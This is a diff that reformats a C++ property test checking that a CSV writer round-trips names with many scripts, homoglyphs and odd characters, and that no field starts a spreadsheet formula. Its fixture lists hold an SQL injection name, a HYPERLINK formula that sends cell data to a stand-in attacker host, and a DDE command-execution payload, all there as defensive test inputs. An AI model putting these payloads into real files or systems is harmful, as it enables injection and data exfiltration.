@@ -23,19 +23,71 @@ constexpr unsigned kSeed = 20260118;
 
 // Names in every script the programme prints, with the joiners some need and look-alikes of a Latin name.
 const std::vector<std::string> kNames = {
-    "山田 花子", "髙橋 𠮷郎", "张伟", "陳怡君", "김민준", "สมชาย ใจดี", "प्रिया शर्मा", "রবীন্দ্রনাথ ঠাকুর",
-    "ਗੁਰਪ੍ਰੀਤ ਸਿੰਘ", "கார்த்திக்", "\u0DC1\u0DCA\u200D\u0DBB\u0DD2\u0DBA\u0DCF\u0DB1\u0DD2", "عائشہ خان",
-    "Nguyễn Thị Minh Khai", "Sukarno", "John Smith", "J\u043Ehn Smith" /* Cyrillic о */, "Jo\u0301se" /* NFD */,
-    "O'Neil", "Khan, Aisha", "Say \"hi\"", "Robert'); DROP TABLE participants;--", "Ma", "X",
+    "山田 花子",
+    "髙橋 𠮷郎",
+    "张伟",
+    "陳怡君",
+    "김민준",
+    "สมชาย ใจดี",
+    "प्रिया शर्मा",
+    "রবীন্দ্রনাথ ঠাকুর",
+    "ਗੁਰਪ੍ਰੀਤ ਸਿੰਘ",
+    "கார்த்திக்",
+    "\u0DC1\u0DCA\u200D\u0DBB\u0DD2\u0DBA\u0DCF\u0DB1\u0DD2",
+    "عائشہ خان",
+    "Nguyễn Thị Minh Khai",
+    "Sukarno",
+    "John Smith",
+    "J\u043Ehn Smith" /* Cyrillic о */,
+    "Jo\u0301se" /* NFD */,
+    "O'Neil",
+    "Khan, Aisha",
+    "Say \"hi\"",
+    "Robert'); DROP TABLE participants;--",
+    "Ma",
+    "X",
 };
 // What may come before a name: formula characters, quotes of one's own, both.
-const std::vector<std::string> kPrefixes = {"", "", "", "=", "+", "-", "@", "'", "''", "'=", "''+", "'-", "=-", "@'",
-                                            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")&"};
+const std::vector<std::string> kPrefixes = {"",   "",    "",
+                                            "=",  "+",   "-",
+                                            "@",  "'",   "''",
+                                            "'=", "''+", "'-",
+                                            "=-", "@'",  "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")&"};
 // Pieces of any text: everything a CSV field must survive, spreadsheet formulas first.
-const std::vector<std::string> kPieces = {
-    "=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "'", "''", "\"", "\"\"", ",", ";", " ", "  ", "a", "Z", "0", "-12",
-    "3.5", "=SUM(A1:A9)", "+cmd|' /C calc'!A0", "山田", "김", "ใจ", "श्", "\u0DC1\u0DCA\u200D\u0DBB", "عائشہ",
-    "ễ", "𠮷", "\u200B", "\u043E", "\u00A0"};
+const std::vector<std::string> kPieces = {"=",
+                                          "+",
+                                          "-",
+                                          "@",
+                                          "\t",
+                                          "\r",
+                                          "\n",
+                                          "\r\n",
+                                          "'",
+                                          "''",
+                                          "\"",
+                                          "\"\"",
+                                          ",",
+                                          ";",
+                                          " ",
+                                          "  ",
+                                          "a",
+                                          "Z",
+                                          "0",
+                                          "-12",
+                                          "3.5",
+                                          "=SUM(A1:A9)",
+                                          "+cmd|' /C calc'!A0",
+                                          "山田",
+                                          "김",
+                                          "ใจ",
+                                          "श्",
+                                          "\u0DC1\u0DCA\u200D\u0DBB",
+                                          "عائشہ",
+                                          "ễ",
+                                          "𠮷",
+                                          "\u200B",
+                                          "\u043E",
+                                          "\u00A0"};
 
 template <typename T>
 const T& pick(std::mt19937& random, const std::vector<T>& from) {
@@ -58,15 +110,18 @@ Participant any_person(std::mt19937& random, int index) {
     if (between(random, 0, 1) == 0) p.latin_name = pick(random, kPrefixes) + pick(random, kNames);
     p.country = pick(random, std::vector<std::string>{"NP", "JP", "LK", "PK", "VN"});
     p.language = pick(random, std::vector<std::string>{"ne", "ja", "si", "ur", "vi", "zh-Hant"});
-    if (between(random, 0, 2) == 0) p.email = pick(random, kPrefixes).substr(0, 1) + "x" + std::to_string(index) + "@example.org";
-    if (between(random, 0, 2) == 0) p.phone = pick(random, std::vector<std::string>{"+977 1 555 0100", "-5 55", "(01) 555"});
+    if (between(random, 0, 2) == 0)
+        p.email = pick(random, kPrefixes).substr(0, 1) + "x" + std::to_string(index) + "@example.org";
+    if (between(random, 0, 2) == 0)
+        p.phone = pick(random, std::vector<std::string>{"+977 1 555 0100", "-5 55", "(01) 555"});
     if (between(random, 0, 3) == 0) p.consent_date = Date{2026, between(random, 1, 12), between(random, 1, 28)};
     return p;
 }
 
 }  // namespace
 
-TEST_CASE("any fields written as a CSV line read back exactly, and none starts a formula", "[io][csv][formula][property]") {
+TEST_CASE("any fields written as a CSV line read back exactly, and none starts a formula",
+          "[io][csv][formula][property]") {
     std::mt19937 random(kSeed);
     for (int round = 0; round < 300; ++round) {
         INFO("seed " << kSeed << ", round " << round);
